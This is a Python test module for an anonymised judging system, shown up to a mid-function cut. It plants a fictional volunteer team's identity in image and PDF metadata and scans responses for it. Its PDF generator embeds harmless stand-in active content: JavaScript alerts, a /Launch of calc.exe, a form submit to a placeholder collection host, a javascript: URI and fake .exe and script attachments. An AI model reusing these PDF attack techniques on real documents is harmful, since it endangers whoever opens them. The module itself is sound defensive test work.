"""A hostile team (issue 10): one team whose identity is planted in every carrier a judge could
receive, and the scanner that looks for it in whatever a judge is sent.

The generator (``entry_texts``, ``captions``, ``photo_files``, ``pdf_file``) writes real files:
images with Pillow (EXIF with GPS and UserComment, XMP, IPTC, PNG text chunks, an ICC profile
naming the team, a JPEG comment, bytes after the image's end) and a PDF with pypdf's raw object
model (page-level carriers and active content chained behind a harmless first action).

The scanner (``scan_response``) folds every text it can find in a response (NFKC, zero-width
and spacing removed, traditional → simplified for the characters used here, tone marks and
case dropped, Chinese numerals read as digits) and reports each identity form found as a
``Finding``: where it was found, which form, and the text as it appeared. Active PDF content
is reported the same way. ``carrier_of`` says which carrier a finding belongs to.
"""

import contextlib
import email.header
import functools
import io
import json
import re
import struct
import unicodedata
import urllib.parse
import zlib
from dataclasses import dataclass
from html.parser import HTMLParser

from PIL import Image, ImageCms, PngImagePlugin
from pypinyin import Style, lazy_pinyin

# --- who the team is ---------------------------------------------------------------------

COUNTY = "沁县"
TOWN = "西井镇"
VILLAGE = "东关村"
ORGANIZATION = "沁县西井镇东关村新时代文明实践站"
ORGANIZATION_SHORT = "东关村实践站"
TEAM = "沁县西井镇东关村暖阳志愿服务队"
CORE_NAMES = ["暖阳志愿服务队", "暖阳"]
CONTACT = "端木青松"
MEMBERS = ["司马振华", "令狐婉儿"]
USERNAME = "nuanyang_qx"
PHONE = "13934567890"
WECHAT = "sunny_dgc88"
QQ = "2837465910"
EMAIL = "warmsun.qx2019@163.com"
ID_NUMBER = "140430198807154321"
PHOTO_NAMES = ["IMG_20250815_QXDGC_暖阳送餐.jpg", "DSC_QXDGC_0815_端木青松.png"]
PDF_NAME = "沁县暖阳志愿服务队申报书_QXDGC终稿.pdf"

NAMES = [TEAM, *CORE_NAMES, ORGANIZATION, ORGANIZATION_SHORT, COUNTY, TOWN, "西井", VILLAGE, "东关"]
PEOPLE = [CONTACT, *MEMBERS]

# --- folding -----------------------------------------------------------------------------

ZERO_WIDTH = "\u200b\u200c\u200d\u2060\ufeff\u00ad"
# Traditional → simplified for the characters of this team's names (no converter is a
# dependency of the project; these are all the scan needs).
TRADITIONAL = "陽願務隊縣鎮東關實踐區聯繫電話號碼門時體華"
SIMPLIFIED = "阳愿务队县镇东关实践区联系电话号码门时体华"
NUMERALS = str.maketrans("〇零一二三四五六七八九幺", "001234567891")
TRAD_TABLE = str.maketrans(TRADITIONAL, SIMPLIFIED)


@functools.lru_cache(maxsize=65536)
def _fold_char(ch: str) -> str:
    text = unicodedata.normalize("NFKC", ch)
    text = "".join(c for c in text if c not in ZERO_WIDTH)
    text = text.translate(TRAD_TABLE).translate(NUMERALS)
    text = "".join(c for c in unicodedata.normalize("NFKD", text) if not unicodedata.combining(c))
    return "".join(c for c in text.lower() if c.isalnum())


def fold(text: str) -> str:
    return "".join(_fold_char(ch) for ch in text)


def fold_with_positions(text: str) -> tuple[str, list[int]]:
    out, positions = [], []
    for i, ch in enumerate(text):
        folded = _fold_char(ch)
        out.append(folded)
        positions += [i] * len(folded)
    return "".join(out), positions


def _pinyin(name: str) -> str:
    return "".join(lazy_pinyin(name))


@dataclass(frozen=True)
class Form:
    label: str  # name, person, pinyin, handle, phone, wechat, qq, email, id, file-name
    form: str  # folded


def identity_forms() -> list[Form]:
    forms = [Form("name", fold(n)) for n in NAMES] + [Form("person", fold(p)) for p in PEOPLE]
    for name in [*NAMES, *PEOPLE]:
        if name not in (ORGANIZATION, ORGANIZATION_SHORT, TEAM):
            forms.append(Form("pinyin", _pinyin(name)))
    forms += [
        Form("handle", fold(USERNAME)),
        Form("phone", PHONE),
        Form("wechat", fold(WECHAT)),
        Form("qq", QQ),
        Form("email", fold(EMAIL.split("@")[0])),
        Form("id", ID_NUMBER),
    ]
    forms += [Form("file-name", fold(n.rsplit(".", 1)[0])) for n in [*PHOTO_NAMES, PDF_NAME]]
    forms.append(Form("file-name", "qxdgc"))
    unique = {f.form: f for f in forms if len(f.form) >= 2}
    return sorted(unique.values(), key=lambda f: -len(f.form))


FORMS = identity_forms()

# --- the texts a team writes -------------------------------------------------------------

ZWJ = "\u200d"


def _spaced(text: str) -> str:
    return " ".join(text)


def _full_width(text: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)


def _tones(name: str) -> str:
    return " ".join(lazy_pinyin(name, style=Style.TONE))


# Each variant once, in its own sentence; the planted text per kind (used by the self-test).
TEXT_VARIANTS = {
    "names": f"我们是{TEAM}，依托{ORGANIZATION}（{ORGANIZATION_SHORT}），负责人{CONTACT}。",
    "core-name": f"{CORE_NAMES[0]}成立于2019年，大家都叫我们“{CORE_NAMES[1]}”。",
    "spaced": f"队名：{_spaced(CORE_NAMES[0])}。",
    "zero-width": f"联络：{ZWJ.join(CORE_NAMES[1])}{ZWJ.join('志愿服务队')}，{ZWJ.join(CONTACT)}。",
    "full-width": f"账号 {_full_width(USERNAME)}。",
    "traditional": "繁体写法：沁縣西井鎮東關村暖陽志願服務隊。",
    "pinyin": f"English name: Nuanyang Volunteers of Qinxian, leader {_pinyin(CONTACT).title()}.",
    "pinyin-tones": f"拼音：{_tones(CORE_NAMES[1])}，{_tones(CONTACT)}。",
    "phone-separators": f"电话 {PHONE[:3]}.{PHONE[3:7]}.{PHONE[7:]}，{PHONE[:3]}/{PHONE[3:7]}/{PHONE[7:]}。",
    "phone-full-width": f"手机{_full_width(PHONE)}。",
    "phone-chinese-numerals": "手机"
    + PHONE.translate(str.maketrans("0123456789", "〇一二三四五六七八九"))
    + "。",
    "wechat": f"VX：{WECHAT}；wx {WECHAT}；微信号是{WECHAT}。",
    "qq": f"QQ：{QQ}。",
    "e-mail": f"邮箱 {EMAIL.replace('@', ' at ')}，或 {EMAIL.replace('@', '#')}。",
    "id-number": f"身份证 {ID_NUMBER[:6]} {ID_NUMBER[6:14]} {ID_NUMBER[14:]}。",
}


def entry_texts() -> dict[str, str]:
    v = TEXT_VARIANTS
    return {
        "title": f"{CORE_NAMES[0]}：留守老人爱心助餐",
        "summary": v["names"] + v["core-name"],
        "need": v["spaced"] + v["zero-width"] + v["full-width"] + v["traditional"],
        "approach": v["pinyin"] + v["pinyin-tones"],
        "innovation": v["phone-separators"] + v["phone-full-width"] + v["phone-chinese-numerals"],
        "outcomes": v["wechat"]
        + v["qq"]
        + v["e-mail"]
        + v["id-number"]
        + f"队员{MEMBERS[0]}、{MEMBERS[1]}。",
    }


CAPTIONS = [f"{CORE_NAMES[0]}在{VILLAGE}为老人送餐", f"{CONTACT}与{CORE_NAMES[1]}队员"]

# --- photos ------------------------------------------------------------------------------

XMP = (
    '<?xpacket begin="\ufeff" id="W5M0MpCehiHzreSzNTczkc9d"?>'
    '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    '<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/">'
    f"<dc:creator>{CONTACT}</dc:creator><dc:title>{TEAM}</dc:title></rdf:Description>"
    '</rdf:RDF></x:xmpmeta><?xpacket end="w"?>'
).encode()


def _segment(marker: int, payload: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(payload) + 2) + payload


def _iptc() -> bytes:
    records = b""
    for dataset, value in ((80, CONTACT), (5, TEAM), (90, COUNTY), (118, PHONE)):  # by-line, title, city
        data = value.encode()
        records += struct.pack(">BBBH", 0x1C, 2, dataset, len(data)) + data
    if len(records) % 2:
        records += b"\x00"
    block = b"8BIM" + struct.pack(">H", 0x0404) + b"\x00\x00" + struct.pack(">I", len(records)) + records
    return b"Photoshop 3.0\x00" + block


def icc_naming_team() -> bytes:
    """sRGB with its description tag replaced by one naming the team (an mluc tag)."""
    profile = bytearray(ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes())
    text = f"{TEAM} {CONTACT}".encode("utf-16-be")
    tag = (
        b"mluc" + b"\x00" * 4 + struct.pack(">II", 1, 12) + b"zhCN" + struct.pack(">II", len(text), 28) + text
    )
    tag += b"\x00" * (-len(tag) % 4)
    offset = len(profile) + (-len(profile) % 4)
    profile += b"\x00" * (offset - len(profile))
    count = struct.unpack(">I", profile[128:132])[0]
    for n in range(count):
        at = 132 + 12 * n
        if profile[at : at + 4] == b"desc":
            profile[at + 4 : at + 12] = struct.pack(">II", offset, len(tag))
    profile += tag
    profile[0:4] = struct.pack(">I", len(profile))
    return bytes(profile)


def identity_exif() -> Image.Exif:
    exif = Image.Exif()
    exif[0x013B] = CONTACT  # Artist
    exif[0x010E] = TEAM  # ImageDescription
    exif[0x8298] = f"{CORE_NAMES[0]} {PHONE}"  # Copyright
    exif[0x0110] = "Mate 60 Pro"  # Model
    exif.get_ifd(0x8769)[0x9286] = b"UNICODE\x00" + f"{TEAM}，{CONTACT}".encode("utf-16-be")  # UserComment
    # GPS of the village (东关村, 沁县).
    exif.get_ifd(0x8825).update({1: "N", 2: (36.0, 45.0, 12.0), 3: "E", 4: (112.0, 41.0, 30.0)})
    return exif


def hostile_jpeg(width=320, height=240, color=(180, 120, 60)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), color).save(
        out,
        format="JPEG",
        exif=identity_exif(),
        icc_profile=icc_naming_team(),
        comment=f"{TEAM} {PHONE}".encode(),
    )
    data = out.getvalue()
    xmp = _segment(0xE1, b"http://ns.adobe.com/xap/1.0/\x00" + XMP)
    data = data[:2] + xmp + _segment(0xED, _iptc()) + data[2:]
    return data + f"{TEAM} {WECHAT}".encode()  # after the end of image


def hostile_png(width=240, height=180) -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", USERNAME)  # tEXt (Latin-1)
    info.add_itxt("Title", TEAM)  # iTXt
    info.add_text("Comment", f"{CORE_NAMES[0]} {PHONE} {CONTACT}", zip=True)  # zTXt → iTXt compressed
    info.add(b"zTXt", b"Source\x00\x00" + zlib.compress(f"{_pinyin(CORE_NAMES[1])} {QQ}".encode()))
    info.add(b"iTXt", b"XML:com.adobe.xmp\x00\x00\x00\x00\x00" + XMP)
    out = io.BytesIO()
    Image.new("RGBA", (width, height), (30, 140, 90, 200)).save(
        out, format="PNG", pnginfo=info, icc_profile=icc_naming_team(), exif=identity_exif()
    )
    return out.getvalue() + f"{TEAM}".encode()


def photo_files() -> list[tuple[str, bytes, str]]:
    return [
        (PHOTO_NAMES[0], hostile_jpeg(), "image/jpeg"),
        (PHOTO_NAMES[1], hostile_png(), "image/png"),
    ]


# --- the PDF -----------------------------------------------------------------------------


def _utf16(text: str) -> str:
    return "<FEFF" + text.encode("utf-16-be").hex().upper() + ">"


def pdf_file() -> bytes:
    """One page naming the team in every page-level carrier, with active content chained
    behind harmless first actions; document-level carriers too (those go already today)."""
    from pypdf import PdfWriter
    from pypdf.generic import (
        ArrayObject,
        DecodedStreamObject,
        DictionaryObject,
        FloatObject,
        NameObject,
        NumberObject,
        TextStringObject,
    )

    def name(n):
        return NameObject(n)

    def text(t):
        return TextStringObject(t)

    def rect(x, y):
        return ArrayObject([FloatObject(x), FloatObject(y), FloatObject(x + 40), FloatObject(y + 20)])

    def dictionary(**items):
        return DictionaryObject({name("/" + k): v for k, v in items.items()})

    writer = PdfWriter()
    page = writer.add_blank_page(width=595, height=842)

    def stream(data: bytes, **items):
        obj = DecodedStreamObject()
        obj.set_data(data)
        obj.update({name("/" + k): v for k, v in items.items()})
        return writer._add_object(obj)

    # A phone photo pasted into the document: its own EXIF (GPS), XMP and comment.
    jpeg = io.BytesIO()
    Image.new("RGB", (64, 48), (200, 90, 40)).save(
        jpeg, format="JPEG", exif=identity_exif(), comment=f"{TEAM} {PHONE}".encode()
    )
    jpeg_data = jpeg.getvalue()
    jpeg_data = jpeg_data[:2] + _segment(0xE1, b"http://ns.adobe.com/xap/1.0/\x00" + XMP) + jpeg_data[2:]
    image = DecodedStreamObject()
    image._data = jpeg_data
    image.update(
        {
            name("/Type"): name("/XObject"),
            name("/Subtype"): name("/Image"),
            name("/Width"): NumberObject(64),
            name("/Height"): NumberObject(48),
            name("/ColorSpace"): name("/DeviceRGB"),
            name("/BitsPerComponent"): NumberObject(8),
            name("/Filter"): name("/DCTDecode"),
            name("/TeamName"): text(TEAM),  # a custom key on the image
            name("/Metadata"): stream(XMP, Type=name("/Metadata"), Subtype=name("/XML")),
        }
    )
    image_ref = writer._add_object(image)
    font = writer._add_object(
        dictionary(Type=name("/Font"), Subtype=name("/Type1"), BaseFont=name("/Helvetica"))
    )
    content = (
        f"% {TEAM} {CONTACT} {PHONE}\n"
        f"/Span <</ActualText {_utf16(TEAM + ' ' + CONTACT)}>> BDC\n"
        f"BT /F1 14 Tf 72 780 Td (Nuanyang Volunteers of Qinxian, {_pinyin(CONTACT)}) Tj ET\n"
        "EMC\n"
        f"BT /F1 12 Tf 72 750 Td (Tel {PHONE[:3]} {PHONE[3:7]} {PHONE[7:]}  {EMAIL}) Tj ET\n"
        "q 128 0 0 96 72 600 cm /Im0 Do Q\n"
    ).encode()
    page[name("/Contents")] = stream(content)
    page[name("/Resources")] = dictionary(Font=dictionary(F1=font), XObject=dictionary(Im0=image_ref))
    page[name("/TeamContact")] = text(f"{CONTACT} {PHONE}")  # a custom key on the page

    def embedded(file_name: str, data: bytes):
        return dictionary(
            Type=name("/Filespec"),
            F=text(file_name),
            UF=text(file_name),
            EF=dictionary(F=stream(data, Type=name("/EmbeddedFile"))),
        )

    page_ref = page.indirect_reference
    go_to = dictionary(S=name("/GoTo"), D=ArrayObject([page_ref, name("/Fit")]))
    go_to[name("/Next")] = ArrayObject(
        [
            dictionary(S=name("/JavaScript"), JS=text("app.alert('hello');")),
            dictionary(S=name("/Launch"), F=text("C:\\Windows\\System32\\calc.exe")),
            dictionary(
                S=name("/SubmitForm"),
                F=dictionary(FS=name("/URL"), F=text("https://collect.example.net/form")),
            ),
        ]
    )
    annotations = [
        dictionary(
            Type=name("/Annot"),
            Subtype=name("/Text"),
            Rect=rect(20, 20),
            T=text(CONTACT),
            Contents=text(f"{TEAM}，电话{PHONE}"),
        ),
        dictionary(
            Type=name("/Annot"),
            Subtype=name("/Widget"),
            FT=name("/Tx"),
            Rect=rect(80, 20),
            T=text("contact"),
            V=text(f"{CONTACT} {PHONE}"),
        ),
        dictionary(
            Type=name("/Annot"),
            Subtype=name("/FileAttachment"),
            Rect=rect(140, 20),
            Contents=text("附件"),
            FS=embedded("roster.txt", f"{TEAM}队员名单：{CONTACT}、{MEMBERS[0]}".encode()),
        ),
        dictionary(
            Type=name("/Annot"),
            Subtype=name("/Link"),
            Rect=rect(200, 20),
            A=dictionary(
                S=name("/URI"), URI=text(f"https://{USERNAME.replace('_', '-')}.example.cn/{WECHAT}")
            ),
        ),
        dictionary(Type=name("/Annot"), Subtype=name("/Link"), Rect=rect(260, 20), A=go_to),
        dictionary(
            Type=name("/Annot"),
            Subtype=name("/Link"),
            Rect=rect(320, 20),
            A=dictionary(S=name("/URI"), URI=text("javascript:alert(document.domain)")),
        ),
        dictionary(
            Type=name("/Annot"),
            Subtype=name("/Screen"),
            Rect=rect(380, 20),
            A=dictionary(S=name("/Rendition"), OP=NumberObject(0), JS=text("app.alert('media');")),
        ),
        dictionary(
            Type=name("/Annot"),
            Subtype=name("/FileAttachment"),
            Rect=rect(440, 20),
            FS=embedded("setup.exe", b"MZ\x90\x00\x03\x00\x00\x00 harmless stand-in"),
        ),
        dictionary(
            Type=name("/Annot"),
            Subtype=name("/FileAttachment"),
            Rect=rect(500, 20),
            FS=embedded("report.html", b"<html><script>alert(1)</script></html>"),
        ),
    ]
    page[name("/Annots")] = ArrayObject([writer._add_object(a) for a in annotations])

    # Document level (cleaned already today): metadata, open action, names trees.
    writer.add_metadata({"/Title": TEAM, "/Author": CONTACT})
    writer.add_attachment("setup2.exe", b"MZ harmless")
    writer.root_object[name("/OpenAction")] = dictionary(S=name("/JavaScript"), JS=text("app.alert(1);"))
    writer.root_object[name("/Metadata")] = stream(XMP, Type=name("/Metadata"), Subtype=name("/XML"))
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# --- the scan ----------------------------------------------------------------------------


@dataclass(frozen=True)
class Finding:
    url: str
    where: str  # e.g. "html text <figcaption>", "image EXIF", "pdf page 1 /Annots[0] /T"
    label: str  # the identity form's label, or "active"
    form: str
    raw: str  # as it appeared (for active content: what was found)

    def __str__(self):
        return f"{self.url} · {self.where} · {self.label}:{self.form} · {self.raw[:60]!r}"


def find_forms(url: str, where: str, text: str) -> list[Finding]:
    if not text:
        return []
    folded, positions = fold_with_positions(text)
    found = []
    for form in FORMS:
        start = folded.find(form.form)
        while start >= 0:
            end = start + len(form.form)
            raw = text[positions[start] : positions[end - 1] + 1]
            found.append(Finding(url, where, form.label, form.form, raw))
            start = folded.find(form.form, end)
    return found


def texts_of(data: bytes) -> list[str]:
    """A byte string read as the texts it might hold."""
    texts = [data.decode("utf-8", "ignore")]
    if data.startswith((b"\xfe\xff", b"UNICODE\x00")) or b"\x00" in data[:64]:
        body = data[8:] if data.startswith(b"UNICODE\x00") else data
        texts += [body.decode("utf-16-be", "ignore"), body.decode("utf-16-le", "ignore")]
    return texts


def find_in_bytes(url: str, where: str, data: bytes) -> list[Finding]:
    found = []
    for text in texts_of(data):
        found += find_forms(url, where, text)
    return sorted(set(found), key=str)


# Images ----------------------------------------------------------------------------------


def _jpeg_segments(data: bytes):
    """(marker, payload) of each segment before the scan data, and the bytes after EOI."""
    at, segments = 2, []
    while at + 4 <= len(data) and data[at] == 0xFF:
        marker = data[at + 1]
        if marker == 0xDA:
            break
        length = struct.unpack(">H", data[at + 2 : at + 4])[0]
        segments.append((marker, data[at + 4 : at + 2 + length]))
        at += 2 + length
    end = data.rfind(b"\xff\xd9")
    return segments, data[end + 2 :] if end >= 0 else b""


def _exif_texts(exif: Image.Exif) -> list[tuple[str, object]]:
    values = [("EXIF", v) for v in exif.values()]
    for ifd in (0x8769, 0x8825, 0xA005):
        try:
            values += [("EXIF" if ifd != 0x8825 else "GPS", v) for v in exif.get_ifd(ifd).values()]
        except (KeyError, ValueError, TypeError):
            continue
    return values


def scan_image(url: str, where: str, data: bytes) -> list[Finding]:
    """Every metadata carrier of an image: EXIF (with GPS and UserComment), XMP, IPTC, PNG text
    chunks, ICC profile, JPEG comments and what follows the image's end."""
    found = []
    try:
        image = Image.open(io.BytesIO(data))
    except (OSError, ValueError):
        return find_in_bytes(url, f"{where} undecodable", data)
    exif = image.getexif()
    if exif.get_ifd(0x8825) or 0x8825 in exif:
        found.append(Finding(url, f"{where} GPS", "gps", "gps", str(dict(exif.get_ifd(0x8825)))[:80]))
    for kind, value in _exif_texts(exif):
        value = value if isinstance(value, bytes) else str(value).encode()
        found += find_in_bytes(url, f"{where} {kind}", value)
    if image.format in ("JPEG", "MPO"):
        segments, trailing = _jpeg_segments(data)
        for marker, payload in segments:
            if marker == 0xE1 and payload.startswith(b"http://ns.adobe.com/xap"):
                found += find_in_bytes(url, f"{where} XMP", payload)
            elif marker == 0xED:
                found += find_in_bytes(url, f"{where} IPTC", payload)
            elif marker == 0xFE:
                found += find_in_bytes(url, f"{where} COM", payload)
            elif marker == 0xE2:
                found += find_in_bytes(url, f"{where} ICC", payload)
    elif image.format == "PNG":
        chunks, trailing = _png_chunks(data)
        for kind, payload in chunks:
            if kind in (b"tEXt", b"zTXt", b"iTXt"):
                found += find_in_bytes(url, f"{where} PNG {kind.decode()}", _png_text(kind, payload))
            elif kind == b"iCCP":
                found += find_in_bytes(url, f"{where} ICC", _png_iccp(payload))
            elif kind == b"eXIf":
                found += find_in_bytes(url, f"{where} EXIF", payload)
    else:
        trailing = b""
    icc = image.info.get("icc_profile")
    if icc:
        found += find_in_bytes(url, f"{where} ICC", icc)
    if trailing:
        found += find_in_bytes(url, f"{where} after the image end", trailing)
    return sorted(set(found), key=str)


def _png_chunks(data: bytes):
    at, chunks = 8, []
    while at + 8 <= len(data):
        length, kind = struct.unpack(">I4s", data[at : at + 8])
        chunks.append((kind, data[at + 8 : at + 8 + length]))
        at += 12 + length
        if kind == b"IEND":
            break
    return chunks, data[at:]


def _png_text(kind: bytes, payload: bytes) -> bytes:
    keyword, _, rest = payload.partition(b"\x00")
    if kind == b"zTXt":
        return keyword + b" " + _inflate(rest[1:])
    if kind == b"iTXt":
        compressed = rest[:1] == b"\x01"
        _language, _, rest = rest[2:].partition(b"\x00")
        _translated, _, body = rest.partition(b"\x00")
        return keyword + b" " + (_inflate(body) if compressed else body)
    return payload


def _png_iccp(payload: bytes) -> bytes:
    _name, _, rest = payload.partition(b"\x00")
    return _inflate(rest[1:])


def _inflate(data: bytes) -> bytes:
    try:
        return zlib.decompress(data)
    except zlib.error:
        return data


# PDFs ------------------------------------------------------------------------------------

ACTIVE_ACTIONS = {"/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/Rendition", "/RichMediaExecute"}
ACTIVE_KEYS = {"/JS", "/JavaScript", "/RichMedia", "/EmbeddedFile", "/EmbeddedFiles", "/OpenAction", "/AA"}
ACTUAL_TEXT = re.compile(rb"/ActualText\s*(<[0-9A-Fa-f\s]*>|\((?:\\.|[^\\)])*\))")
COMMENT = re.compile(rb"(?m)^\s*%[^\r\n]*")


def _pdf_string(token: bytes) -> str:
    if token.startswith(b"<"):
        raw = bytes.fromhex(re.sub(rb"\s", b"", token[1:-1]).decode())
    else:
        raw = re.sub(rb"\\(.)", rb"\1", token[1:-1])
    if raw.startswith(b"\xfe\xff"):
        return raw[2:].decode("utf-16-be", "ignore")
    return raw.decode("utf-8", "ignore")


def _scan_content(url: str, where: str, data: bytes) -> list[Finding]:
    found = []
    for match in COMMENT.finditer(data):
        found += find_in_bytes(url, f"{where} comment", match.group())
    for match in ACTUAL_TEXT.finditer(data):
        found += find_forms(url, f"{where} /ActualText", _pdf_string(match.group(1)))
    rest = ACTUAL_TEXT.sub(b"", COMMENT.sub(b"", data))
    found += find_in_bytes(url, f"{where} operators", rest)
    return found


def scan_pdf(url: str, data: bytes) -> list[Finding]:
    """The whole object structure, walked from each page and from the trailer: every name,
    string and decoded stream; image XObjects through ``scan_image``; content streams split
    into comments, /ActualText and the rest; the text layer; and active content."""
    from pypdf import PdfReader
    from pypdf.generic import ArrayObject, DictionaryObject, IndirectObject, StreamObject

    reader = PdfReader(io.BytesIO(data), strict=False)
    found: list[Finding] = []
    seen: set = set()

    def active(where, what):
        found.append(Finding(url, where, "active", what, what))

    def walk(obj, where):
        if isinstance(obj, IndirectObject):
            key = (obj.idnum, obj.generation)
            if key in seen:
                return
            seen.add(key)
            obj = obj.get_object()
        if isinstance(obj, DictionaryObject):
            rendition = obj.get("/S") == "/Rendition"
            if obj.get("/S") in ACTIVE_ACTIONS:
                active(where, f"action {obj['/S']}")
            if obj.get("/Type") == "/EmbeddedFile":
                active(where, "embedded file stream")
            for key in obj:
                if key in ACTIVE_KEYS:
                    active(where, f"key {key} in /Rendition" if rendition else f"key {key}")
            uri = obj.get("/URI")
            if uri is not None and str(uri).strip().lower().startswith("javascript:"):
                active(where, "javascript: URI")
            file_name = str(obj.get("/UF") or obj.get("/F") or "") if obj.get("/Type") == "/Filespec" else ""
            if file_name:
                active(where, f"embedded file {file_name.rsplit('.', 1)[-1].lower()}")
            for key, value in obj.items():
                if key in ("/Parent", "/P"):
                    continue
                found.extend(find_forms(url, f"{where} {key} (key)", key[1:]))
                if (
                    key in ("/Contents",)
                    and isinstance(obj, DictionaryObject)
                    and obj.get("/Type") == "/Page"
                ):
                    continue
                walk(value, f"{where} {key}")
            if isinstance(obj, StreamObject):
                if obj.get("/Subtype") == "/Image":
                    found.extend(scan_image(url, f"{where} image", obj._data))
                else:
                    try:
                        stream_data = obj.get_data()
                    except Exception:  # noqa: BLE001 (an undecodable stream is scanned raw)
                        stream_data = obj._data
                    found.extend(find_in_bytes(url, f"{where} stream", stream_data))
        elif isinstance(obj, ArrayObject):
            for n, item in enumerate(obj):
                walk(item, f"{where}[{n}]")
        elif isinstance(obj, str):
            found.extend(find_forms(url, where, str(obj)))
        elif isinstance(obj, bytes):
            found.extend(find_in_bytes(url, where, bytes(obj)))

    for number, page in enumerate(reader.pages, start=1):
        where = f"pdf page {number}"
        contents = page.get_contents()
        if contents is not None:
            found.extend(_scan_content(url, f"{where} content", contents.get_data()))
        found.extend(find_forms(url, f"{where} text layer", page.extract_text() or ""))
        walk(page.indirect_reference or page, where)
    walk(reader.trailer, "pdf document")
    return sorted(set(found), key=str)


# HTML, JSON, headers, URLs ---------------------------------------------------------------


class _Page(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.stack: list[str] = []
        self.parts: list[tuple[str, str]] = []  # (where, text)
        self.links: list[str] = []

    VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "wbr"}

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            value = value or ""
            self.parts.append((f"html attribute {tag}@{name}", value))
            if name in ("href", "src", "action", "srcset", "data-src"):
                self.parts.append((f"html attribute {tag}@{name} decoded", urllib.parse.unquote(value)))
            if name in ("href", "src"):
                self.links.append(value)
        if tag not in self.VOID:
            self.stack.append(tag)

    def handle_endtag(self, tag):
        if tag in self.stack:
            while self.stack and self.stack.pop() != tag:
                pass

    def handle_data(self, data):
        inside = "figcaption" if "figcaption" in self.stack else (self.stack[-1] if self.stack else "")
        self.parts.append((f"html text <{inside}>", data))

    def handle_comment(self, data):
        self.parts.append(("html comment", data))


def parse_html(body: str) -> _Page:
    page = _Page()
    page.feed(body)
    return page


def header_texts(name: str, value: str) -> list[str]:
    texts = [value, urllib.parse.unquote(value)]
    with contextlib.suppress(ValueError, LookupError):
        texts.append(str(email.header.make_header(email.header.decode_header(value))))
    for match in re.finditer(r"\*=([\w-]+)'[^']*'([^;\s]+)", value):  # RFC 5987
        texts.append(urllib.parse.unquote(match.group(2), encoding=match.group(1)))
    return texts


def _json_strings(value):
    if isinstance(value, dict):
        for k, v in value.items():
            yield str(k)
            yield from _json_strings(v)
    elif isinstance(value, list):
        for v in value:
            yield from _json_strings(v)
    elif value is not None:
        yield str(value)


def scan_response(url: str, headers: dict, body: bytes) -> list[Finding]:
    found = find_forms(url, "url", urllib.parse.unquote(url))
    for name, value in headers.items():
        for text in header_texts(name, str(value)):
            found += find_forms(url, f"header {name}", text)
    content_type = str(headers.get("Content-Type", ""))
    if content_type.startswith("text/html"):
        page = parse_html(body.decode("utf-8", "replace"))
        for where, text in page.parts:
            found += find_forms(url, where, text)
    elif "json" in content_type:
        for text in _json_strings(json.loads(body or b"null")):
            found += find_forms(url, "json", text)
    elif content_type.startswith("image/"):
        found += scan_image(url, "image", body)
    elif content_type.startswith("application/pdf"):
        found += scan_pdf(url, body)
    else:
        found += find_in_bytes(url, f"body {content_type}", body)
    return sorted(set(found), key=str)


# Which carrier a finding belongs to --------------------------------------------------------

TEXT_KINDS = list(TEXT_VARIANTS)


def text_kind(finding: Finding) -> str:
    """The variant a finding in page text was written in (see TEXT_VARIANTS)."""
    raw, label = finding.raw, finding.label
    full_width = any("\uff01" <= c <= "\uff5e" for c in raw)
    if label == "phone" and full_width:
        return "phone-full-width"
    if full_width:
        return "full-width"
    if label == "wechat":
        return "wechat"
    if label == "qq":
        return "qq"
    if label == "email":
        return "e-mail"
    if label == "id":
        return "id-number"
    if label == "handle":
        return "full-width" if unicodedata.normalize("NFKC", raw) != raw else "names"
    if label == "phone":
        if any(c in "〇一二三四五六七八九" for c in raw):
            return "phone-chinese-numerals"
        if unicodedata.normalize("NFKC", raw) != raw:
            return "phone-full-width"
        return "phone-separators" if re.search(r"[./]", raw) else "names"
    if any(c in ZERO_WIDTH for c in raw):
        return "zero-width"
    if any(c in TRADITIONAL for c in raw):
        return "traditional"
    if label == "pinyin":
        return "pinyin" if raw.isascii() else "pinyin-tones"
    if re.search(r"\s", raw):
        return "spaced"
    if finding.form in {fold(n) for n in CORE_NAMES}:
        return "core-name"
    return "names"


def carrier_of(finding: Finding) -> str:
    where = finding.where
    if finding.label == "active":
        what = finding.form
        if where.startswith("pdf document"):
            return "pdf-document-level"
        if "embedded file" in what:
            return {"exe": "pdf-embedded-exe", "html": "pdf-embedded-html", "htm": "pdf-embedded-html"}.get(
                what.rsplit(" ", 1)[-1], "pdf-embedded-file"
            )
        if "javascript: URI" in what:
            return "pdf-javascript-uri"
        if "/Rendition" in what or "/Rendition" in where or "/RichMedia" in what:
            return "pdf-rendition"
        if "/Launch" in what:
            return "pdf-launch"
        if "/SubmitForm" in what or "/ImportData" in what:
            return "pdf-submitform"
        if "/JavaScript" in what or "/JS" in what:
            return "pdf-javascript"
        return "pdf-embedded-file" if "/EmbeddedFile" in what else "pdf-active-other"
    if where.startswith("pdf document"):
        return "pdf-document-level"
    if where.startswith("pdf"):
        if " image" in where:
            if "GPS" in where:
                return "pdf-image-gps"
            if "XMP" in where or "/Metadata" in where:
                return "pdf-image-xmp"
            if " COM" in where:
                return "pdf-image-comment"
            if "EXIF" in where:
                return "pdf-image-exif"
            return "pdf-image-other"
        if "/XObject" in where and "/Metadata" in where:
            return "pdf-image-xmp"
        if "/XObject" in where:
            return "pdf-image-custom-key"
        if "/FS" in where or "/EF" in where:
            return "pdf-file-attachment"
        if "/URI" in where:
            return "pdf-link-uri"
        if "/Annots" in where and where.endswith(("/V", "/DV")):
            return "pdf-form-field"
        if "/Annots" in where:
            return "pdf-annotation"
        if "comment" in where:
            return "pdf-content-comment"
        if "/ActualText" in where:
            return "pdf-actualtext"
        if "content" in where or "text layer" in where or "/Contents" in where:
            return "pdf-visible-text"
        return "pdf-page-custom-key"
    if where.startswith("image"):
        if "GPS" in where:
            return "photo-gps"
        for key, carrier in (
            ("XMP", "photo-xmp"),
